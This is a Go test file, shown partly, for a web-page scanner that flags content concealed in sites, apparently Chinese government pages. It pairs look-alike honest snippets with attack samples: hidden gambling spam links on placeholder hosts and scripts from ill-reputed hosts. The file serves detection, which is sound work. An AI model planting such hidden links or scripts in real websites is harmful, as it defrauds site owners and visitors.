	"off-canvas":          `<style>.nav{position:fixed;left:-100%}.nav.open{left:0}</style><nav class="nav"><a href="/">首页</a><a href="/zwgk">公开</a></nav>`,
	"tooltip":             `<style>.tip{visibility:hidden;opacity:0}.q:hover .tip{visibility:visible;opacity:1}</style><span class="q">主办单位<span class="tip">FRIEND</span></span>`,
	"accessibility":       `<a id="wza" href="javascript:void(0)" onclick="aria.start()">无障碍浏览</a><script src="https://gov.wuzhangai-fuwu.com/aria.js"></script>`,
	"elder":               `<script>function zz(){document.cookie="old=1";location.href="https://zyz.example.gov.cn/"}</script><a onclick="zz()">长者模式</a>`,
	"qr frame":            `<iframe src="https://mp.weixin.qq.com/x" style="display:none"></iframe>`,
	"js concat own":       `<script>var a="/zwgk/",b="index.html";location.href.indexOf("old")>0&&(location.href=a+b)</script>`,
	"concat external tab": `<script>var base="http://www.fengxiang-bowuguan.com";function toB(){window.location.href=base+"/b"}</script><a onclick="toB()">某博物馆</a>`,
	"reading count":       `<script>document.write('<script src="/cms/count.jsp?id='+docId+'"><\/script>')</script>`,
	"noscript frame":      `<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=x" height="0" width="0" style="display:none"></iframe></noscript>`,
	"hidden class own":    `<link rel="stylesheet" href="/css/bootstrap.css"><div class="d-none"><a href="/a">甲</a><a href="http://www.shaanxi.gov.cn">省政府</a></div>`,
	"news of a break-in":  `<title>我市某企业网站被黑，网信部门及时处置</title><p>x</p>`,
	"short news":          `<title>某医院网站被入侵</title><p>x</p>`,
	"state-owned":         `<title>Enterprises owned by the State</title><p>x</p>`,
	"news in English":     `<title>Three firms hacked by one group, police say</title><p>x</p>`,
	"search in a box":     `<div id="ssBtn">搜索</div><div id="ssBox" style="display:none"><form action="http://search.yunjiansuo-fuwu.com/s"><input name="q"></form></div><script>document.getElementById("ssBtn").onclick=function(){document.getElementById("ssBox").style.display="block"}</script>`,
	"search of a column":  `<form action="http://search.yunjiansuo-fuwu.com/s"><input name="bankuai"><input name="q"></form>`,
	"another form's":      `<form id="tj" action="http://tongji.shuju-fuwu.com/s"><input type="hidden" name="a"></form><script>document.getElementById("loginForm").submit()</script>`,
	"visible class":       `<link rel="stylesheet" href="/css/bootstrap.css"><div class="hidden-xs">FRIEND</div><div class="d-none d-md-block">FRIEND</div>`,
}

// many are links to several hosts that no list knows, in words that belong to games.
const many = `<a href="TO">棋牌娱乐</a> <a href="http://www.hongyuan-jixie.example/">足球比分</a> <a href="http://www.yulin-zhubao.example/">真人视讯</a> <a href="http://www.dingbian-shiye.example/">电竞下注</a>`

// sayConcealed holds what the checks of concealed things say of a body.
func sayConcealed(t *testing.T, name, body string, want bool) {
	t.Helper()
	body = strings.ReplaceAll(body, "MANY", many)
	body = strings.ReplaceAll(strings.ReplaceAll(body, "LINK", `<a href="TO">点击进入</a>`), "TO", to)
	body = strings.ReplaceAll(body, "FRIEND", `<a href="http://www.fengxiang-bowuguan.com">某博物馆</a>`)
	src := article("", `<div class="foot0">`+body+`</div>`)
	if strings.HasPrefix(body, "<title>") {
		i := strings.Index(body, "</title>") + 8
		src = `<!DOCTYPE html><html><head><meta charset="utf-8">` + body[:i] + `</head><body>` + body[i:] + `</body></html>`
	}
	if strings.HasPrefix(body, "<meta") || strings.HasPrefix(body, "<link") || strings.HasPrefix(body, "<BASE") {
		src = article(body, "")
	}
	says := ""
	for _, f := range Run(Facts{Page: parse(t, src)}) {
		if strings.HasPrefix(f.Check, "concealed.") && f.Outcome == Violated {
			says += f.Check + " " + f.Says + "; "
		}
	}
	if got := says != ""; got != want {
		t.Errorf("%s: found %v %s", name, got, says)
	}
}

// TestAttacksAndTheirLookAlikes: what is put into a page is found by the way it is put
// there, and what honest pages do in much the same way is left alone.
func TestAttacksAndTheirLookAlikes(t *testing.T) {
	for n, b := range attacks {
		sayConcealed(t, n, b, true)
	}
	for n, b := range honestPages {
		sayConcealed(t, "honest "+n, b, false)
	}
}

// The packs of what is built into pages are readable, and say that nobody verified them.
func TestEmbeddedPack(t *testing.T) {
	if embedded.Version == "" || embedded.Mark != "M" || len(embedded.ScriptHosts) < 20 || len(embedded.HiddenClasses) < 5 || len(embedded.Miners) < 5 {
		t.Errorf("%+v", embedded)
	}
}

// A script from a host that no list and no ledger knows is told of as advice, in words
// that are the same on every page of the site; what is commonly built in is not.
func TestForeignScriptsAreNamedByHost(t *testing.T) {
	hosts := func(ledger *Ledger, body string) (out []string) {
		t.Helper()
		for _, f := range Run(Facts{Page: parse(t, article("", body)), Ledger: ledger}) {
			if f.Check == "script.foreign" && f.Outcome == Violated {
				out = append(out, string(f.Severity)+" "+f.Where)
				if !strings.Contains(f.Says, f.Where) || strings.Contains(f.Says, "/a.js") {
					t.Errorf("says %q", f.Says)
				}
			}
		}
		return out
	}
	for _, c := range []struct{ name, body, want string }{
		{"unknown, twice", `<script src="//js.lanting-jidian.com/a.js?v=1"></script><script src="http://js.lanting-jidian.com/b.js"></script>`, "advice js.lanting-jidian.com"},
		{"own and government", `<script src="/js/a.js"></script><script src="https://static.example.gov.cn/a.js"></script><script src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script><script src="//dcs.conac.cn/js/1.js"></script>`, ""},
		{"common services", `<script src="https://hm.baidu.com/hm.js?1"></script><script src="https://cdn.staticfile.org/jquery/1/jquery.min.js"></script><script src="//sdk.51.la/a.js"></script><script src="https://webapi.amap.com/maps"></script><script src="https://api.tianditu.gov.cn/api"></script>`, ""},
		{"ill fame", `<script src="http://js.bet8888.com/a.js"></script>`, "serious js.bet8888.com"},
		{"a name that ends alike", `<script src="http://evilstaticfile.org/a.js"></script>`, "advice evilstaticfile.org"},
		{"text of its own", `<script src="data:text/javascript,var a=1"></script><script src="http://192.168.0.3/a.js"></script>`, ""},
	} {
		if got := strings.Join(hosts(nil, c.body), ","); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
	if got := hosts(&Ledger{SiteDomain: "www.weinan-lvyou.com"}, `<script src="http://static.weinan-lvyou.com/a.js"></script>`); len(got) > 0 {
		t.Errorf("the ledger's own domain: %v", got)
	}
}
